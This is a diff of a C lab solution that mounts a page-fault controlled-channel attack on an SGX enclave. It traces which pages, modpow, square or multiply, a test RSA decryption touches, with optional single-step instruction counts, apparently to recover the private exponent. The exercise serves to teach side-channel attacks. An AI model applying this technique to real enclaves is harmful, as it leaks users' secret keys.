@@ -1,8 +1,11 @@
 /* utility headers */
 #include "debug.h"
 #include "pf.h"
+#include "pt.h"
+#include "ss.h"
 #include "cacheutils.h"
 #include <sys/mman.h>
+#include <string.h>
 #include "victim.h"
 
 #define RSA_TEST_VAL    1234
@@ -15,44 +18,25 @@ void *sq_pt = NULL, *mul_pt = NULL, *modpow_pt = NULL;
 // modpow - 1, sq - 2, mul - 3
 int pages[MAX_SIZE], idx=0;
 
-void *prev_page = NULL;
+// only the faulting page is executable at any time (window of 1 page)
+pt_ctl_t ctl;
+
+// optionally (-s) count the instructions executed during every page visit
+int use_ss = 0;
+uint64_t steps[MAX_SIZE];
 /* =========================== END SOLUTION =========================== */
 
 void fault_handler(void *base_adrs)
 {
     /* =========================== START SOLUTION =========================== */
-    // printf("%lx\n", base_adrs);
-
-    if(base_adrs == modpow_pt){
-        pages[idx] = 1;
-
-        // modpow is executed for the 1st time -- mark sq and mul as NON_EXECUTABLE
-        if(prev_page == NULL){
-            mprotect(sq_pt, 0x1000, PROT_NONE);
-            mprotect(mul_pt, 0x1000, PROT_NONE);
-        }
-        else{
-            // mark prev_page as NON_EXECUTABLE
-            mprotect(prev_page, 0x1000, PROT_NONE);
-        }
-    }
-    else if(base_adrs == sq_pt){
-        pages[idx] = 2;
-        
-        // mark prev_page as NON_EXECUTABLE
-        mprotect(prev_page, 0x1000, PROT_NONE);
-    }
-    else if(base_adrs == mul_pt){
-        pages[idx] = 3;
-
-        // mark prev_page as NON_EXECUTABLE
-        mprotect(prev_page, 0x1000, PROT_NONE);
-    }
-
-    // mark current page as EXECUTABLE
-    mprotect(base_adrs, 0x1000, PROT_EXEC);
-    idx += 1;
-    prev_page = base_adrs;
+    // instructions of the previous visit, then step through this one
+    if (use_ss && ctl.trace_len > 0 && ctl.trace_len <= MAX_SIZE)
+        steps[ctl.trace_len-1] = ss_reset();
+    if (use_ss)
+        ss_start();
+
+    // note down the page, mark it EXECUTABLE and the previous page NON_EXECUTABLE
+    pt_fault(&ctl, base_adrs);
     /* =========================== END SOLUTION =========================== */
 
     fault_fired++;
@@ -66,6 +50,8 @@ int main( int argc, char **argv )
     /* ---------------------------------------------------------------------- */
     info("registering fault handler..");
     register_fault_handler(fault_handler);
+    if ((use_ss = (argc > 1 && !strcmp(argv[1], "-s"))))
+        ss_init();
 
     /* ---------------------------------------------------------------------- */
     info_event("Calling enclave..");
@@ -79,8 +65,30 @@ int main( int argc, char **argv )
     info("secure enclave encrypted '%d' to '%d'; decrypted '%d'", RSA_TEST_VAL, cipher, plain);
 
     /* =========================== START SOLUTION =========================== */
-    mprotect(modpow_pt, 0x1000, PROT_NONE);
+    pt_init(&ctl, 1, pages, MAX_SIZE);
+    ASSERT(!pt_add(&ctl, modpow_pt, 1, PROT_EXEC));
+    ASSERT(!pt_add(&ctl, sq_pt, 2, PROT_EXEC));
+    ASSERT(!pt_add(&ctl, mul_pt, 3, PROT_EXEC));
+    if (use_ss)
+        ss_arm(sq_pt, modpow_pt + 0x1000);
+    pt_arm(&ctl);
     plain = ecall_rsa_decode(cipher);
+    pt_disarm(&ctl);
+    pf_trace_dump();
+    if (ctl.refaults)
+        info("%lu fault(s) on open pages; their rights were widened", ctl.refaults);
+    idx = ctl.trace_len;
+
+    if (use_ss)
+    {
+        ss_disarm();
+        steps[idx-1] = ss_reset();
+        printf("Instructions per page visit: ");
+        for(int i=0;i<idx;i++){
+            printf("%lu ", steps[i]);
+        }
+        printf("\n");
+    }
 
     int rsa_d = 0, mask = 0x8000;
 